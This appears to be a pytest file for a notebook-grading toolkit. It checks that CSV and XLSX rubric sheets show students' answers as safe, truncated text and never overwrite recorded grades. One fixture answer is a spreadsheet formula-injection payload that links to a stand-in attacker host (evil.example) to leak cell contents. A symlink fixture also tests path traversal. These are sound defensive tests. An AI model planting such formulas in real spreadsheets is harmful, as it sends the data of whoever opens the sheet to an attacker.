"""The rubric sheet carries each participant's answer (plain text, truncated, never a formula)
and a link to the notebook, in CSV and XLSX; applying it back never overwrites a grade."""

from __future__ import annotations

import csv
import json
import os
import shutil

import pytest
from openpyxl import load_workbook

from fixtures.cohort import SUBMISSIONS, make_workshop, stage
from fixtures.required import need_bwrap
from uprkit.grading.autograde import autograde
from uprkit.grading.rubric_sheets import apply_grading_sheet, load_rubric, write_grading_sheet
from uprkit.grading.sheet_answers import MAX_ANSWER_CHARS
from uprkit.workshop.collect import collect_submissions
from uprkit.workshop.course import open_gradebook

pytestmark = pytest.mark.slow

RUBRIC = """\
assignment: mini
parts:
  - grade_id: why_noted
    points: 1
    criteria:
      - points: 0.5
        description: Names the response (noted).
      - points: 0.5
        description: Gives one reason from the State's statement.
"""
LONG = "The State noted it, but civil society can raise it again. " * 60  # ~3,500 characters
ANSWERS = {
    "p01": "## Why it matters\n\nA **noted** recommendation can be [raised](http://x.org) again.",
    "p02": '=HYPERLINK("http://evil.example/?"&A1,"click")\x07',
    "p04": LONG,
}


def _with_answer(folder, name, text):
    notebook = json.loads((SUBMISSIONS / "correct.ipynb").read_text(encoding="utf-8"))
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "why_noted":
            cell["source"] = text
    (folder / name).write_text(json.dumps(notebook), encoding="utf-8")


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    need_bwrap()
    root = tmp_path_factory.mktemp("answers")
    ws = make_workshop(root / "ws")
    incoming = root / "in"
    incoming.mkdir()
    for pid, text in ANSWERS.items():
        _with_answer(incoming, f"{pid}.ipynb", text)
    stage(incoming, {"p05.ipynb": "correct"})
    collect_submissions(ws, "mini", incoming)
    autograde(ws, "mini", workers=2)
    rubric_file = root / "mini.yaml"
    rubric_file.write_text(RUBRIC, encoding="utf-8")
    # after grading, p05's notebook is swapped for a link to a trainer's file: never followed
    submitted = ws.submitted_dir("p05", "mini") / "mini.ipynb"
    submitted.unlink()
    os.symlink(ws.gradebook_path, submitted)
    return ws, load_rubric("mini", rubric_file)


def _rows(sheet):
    if sheet.suffix == ".xlsx":
        book = load_workbook(sheet)
        values = list(book.active.iter_rows(values_only=True))
        column = book.active.cell(row=1, column=values[0].index("notebook") + 1).column_letter
        links = {c.row: c.hyperlink.target for c in book.active[column] if c.hyperlink}
        rows = [dict(zip(values[0], row, strict=True)) for row in values[1:]]
        for number, row in enumerate(rows, start=2):
            row["link"] = links.get(number)
        return rows
    with sheet.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_each_line_carries_the_answer_and_a_link(graded, tmp_path, suffix):
    ws, rubric = graded
    sheet, answers = write_grading_sheet(ws, "mini", tmp_path / f"sheet{suffix}", rubric=rubric)
    rows = _rows(sheet)
    by_pid = {r["participant_id"]: r for r in rows if str(r["criterion"]) == "1"}
    assert set(by_pid) == {"p01", "p02", "p04", "p05"} and answers == 4
    assert by_pid["p01"]["answer"] == (
        "Why it matters\n\nA noted recommendation can be raised again."
    )
    # a formula in an answer stays text, its control character gone
    assert by_pid["p02"]["answer"] == "'" + ANSWERS["p02"][:-1]
    long = by_pid["p04"]["answer"]
    assert long.endswith("…") and MAX_ANSWER_CHARS * 0.8 < len(long) <= MAX_ANSWER_CHARS + 1
    assert LONG.startswith(long[:-1])
    assert by_pid["p05"]["answer"].startswith(
        "(answer not shown: cannot be opened without following"
    )
    assert "SQLite" not in " ".join(str(r["answer"]) for r in rows)
    for pid, row in by_pid.items():
        assert (sheet.parent / row["notebook"]).resolve() == (
            ws.submitted_dir(pid, "mini") / "mini.ipynb"
        ).resolve(strict=False)
        if suffix == ".xlsx":
            assert row["link"] == row["notebook"]
    assert all(r["answer"] for r in rows), "every criterion line repeats its answer"


@pytest.mark.parametrize(("suffix", "pid"), [(".csv", "p01"), (".xlsx", "p04")])
def test_a_filled_sheet_applies_and_never_overwrites_a_recorded_grade(
    graded, tmp_path, suffix, pid
):
    ws, rubric = graded
    sheet, _ = write_grading_sheet(ws, "mini", tmp_path / f"fill{suffix}", rubric=rubric)
    rows = _rows(sheet)
    for row in rows:
        row.pop("link", None)
        if row["participant_id"] == pid:
            row["awarded"] = "0.5"
    if suffix == ".xlsx":
        book = load_workbook(sheet)
        for cell in book.active["F"][1:]:
            if book.active.cell(row=cell.row, column=1).value == pid:
                cell.value = 0.5  # a number, as a trainer types it in Excel
        book.save(sheet)
    else:
        with sheet.open("w", encoding="utf-8-sig", newline="") as fh:
            writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    first = apply_grading_sheet(ws, "mini", sheet, rubric=rubric, force=True)
    assert first.graded == 1 and first.blank >= 2
    with open_gradebook(ws) as gradebook:
        assert gradebook.find_grade("why_noted", "mini", "mini", pid).manual_score == 1.0
        gradebook.find_grade("why_noted", "mini", "mini", pid).manual_score = 0.75
        gradebook.db.commit()  # a trainer changed it in formgrader since
    again = apply_grading_sheet(ws, "mini", sheet, rubric=rubric)
    assert again.graded == 0 and again.kept == [f"{pid} why_noted: recorded 0.75, sheet 1"]
    with open_gradebook(ws) as gradebook:
        assert gradebook.find_grade("why_noted", "mini", "mini", pid).manual_score == 0.75


def test_a_broken_workbook_is_named(graded, tmp_path):
    ws, rubric = graded
    bad = tmp_path / "broken.xlsx"
    shutil.copy(SUBMISSIONS / "correct.ipynb", bad)
    with pytest.raises(Exception, match=r"broken\.xlsx: not a readable \.xlsx workbook"):
        apply_grading_sheet(ws, "mini", bad, rubric=rubric)
